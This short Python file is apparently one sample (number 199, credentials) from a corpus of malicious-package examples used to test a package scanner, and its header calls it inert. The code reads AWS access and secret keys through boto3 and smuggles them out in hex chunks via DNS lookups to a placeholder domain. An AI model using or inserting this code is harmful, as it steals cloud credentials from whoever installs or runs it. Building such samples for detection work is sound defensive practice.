# pkgguard corpus 199 (credentials), modelled on [taxonomy]; inert, never run.
import socket

import boto3

creds = boto3.Session().get_credentials()
if creds is not None:
    token = (creds.access_key + ":" + creds.secret_key).encode().hex()
    for i in range(0, len(token), 60):
        try:
            socket.gethostbyname(f"{token[i:i + 60]}.{i}.dns.example")
        except OSError:
            pass
